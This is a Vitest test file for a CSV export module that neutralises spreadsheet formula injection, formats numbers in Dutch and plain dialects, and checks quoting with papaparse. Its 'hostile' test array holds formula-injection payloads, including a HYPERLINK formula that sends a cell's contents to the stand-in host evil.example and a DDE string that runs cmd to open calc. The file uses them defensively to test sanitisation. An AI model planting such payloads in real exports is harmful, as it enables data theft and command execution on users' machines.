import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { csvCell, formatNumber, neutraliseFormula, toCsv } from './csv';

const hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"Klik")', '+cmd|\' /C calc\'!A0', '-1+1', '@SUM(A1:A9)', '\tverborgen', '\r=1+1', '=1\n+2'];

describe('neutraliseFormula', () => {
	it('puts a single quote before text that a spreadsheet would run as a formula', () => {
		for (const text of hostile) expect(neutraliseFormula(text)).toBe(`'${text}`);
	});

	it('leaves ordinary text alone, also when a formula character comes later', () => {
		for (const text of ['We leren van elkaar.', 'Kosten: 5-10 euro', 'a=b', ' =1', '']) expect(neutraliseFormula(text)).toBe(text);
	});
});

describe('numbers', () => {
	it('writes negative numbers as numbers, in the dialect’s decimal mark', () => {
		expect(csvCell(-0.4, 'csv')).toBe('-0.4');
		expect(csvCell(-0.4, 'csv-nl')).toBe('-0,4');
		expect(csvCell(3, 'csv-nl')).toBe('3');
		expect(formatNumber(Number.NaN, 'csv')).toBe('');
		expect(formatNumber(-0, 'csv')).toBe('0');
	});

	it('rounds to four decimals, so no binary noise reaches a spreadsheet', () => {
		expect(csvCell(1.1 * 3, 'csv')).toBe('3.3');
		expect(csvCell(0.35 - 0.5, 'csv-nl')).toBe('-0,15');
		expect(csvCell(2 / 3, 'csv')).toBe('0.6667');
		expect(csvCell(-0.00001, 'csv')).toBe('0');
		expect(csvCell(1234.5, 'csv-nl')).toBe('1234,5');
	});

	it('neutralises the same characters as text', () => {
		expect(csvCell('-0.4', 'csv')).toBe("'-0.4");
		expect(csvCell(null, 'csv')).toBe('');
	});
});

describe('toCsv', () => {
	const table = {
		columns: ['id', 'gap', 'open'],
		rows: [
			[1, -0.25, 'Prima; en "goed", zeker'],
			[2, 1.5, '=HYPERLINK("x")'],
			[3, null, 'twee\nregels']
		]
	};

	it('Dutch Excel: semicolons, decimal comma, BOM, CRLF, quoting by papaparse', () => {
		const text = toCsv(table, 'csv-nl');
		expect(text.startsWith('\uFEFFid;gap;open\r\n')).toBe(true);
		expect(text).toContain('1;-0,25;"Prima; en ""goed"", zeker"\r\n');
		expect(text).toContain('2;1,5;"\'=HYPERLINK(""x"")"\r\n');
		expect(text.endsWith('\r\n')).toBe(true);
		const parsed = Papa.parse<string[]>(text.slice(1), { delimiter: ';', newline: '\r\n', skipEmptyLines: true });
		expect(parsed.errors).toEqual([]);
		expect(parsed.data[3]).toEqual(['3', '', 'twee\nregels']);
	});

	it('plain: commas, decimal point, no BOM, and reads back to the same cells', () => {
		const text = toCsv(table, 'csv');
		expect(text.charCodeAt(0)).not.toBe(0xfeff);
		expect(text.split('\n')[0]).toBe('id,gap,open');
		const parsed = Papa.parse<string[]>(text, { skipEmptyLines: true });
		expect(parsed.data.slice(1)).toEqual([
			['1', '-0.25', 'Prima; en "goed", zeker'],
			['2', '1.5', '\'=HYPERLINK("x")'],
			['3', '', 'twee\nregels']
		]);
	});

	it('neutralises every hostile open answer and no negative number', () => {
		const rows = hostile.map((text, i) => [-(i + 1), text]);
		const parsed = Papa.parse<string[]>(toCsv({ columns: ['n', 'open'], rows }, 'csv'), { skipEmptyLines: true });
		for (const [i, [n, open]] of parsed.data.slice(1).entries()) {
			expect(n).toBe(String(-(i + 1)));
			expect(open).toBe(`'${hostile[i]}`);
		}
	});
});
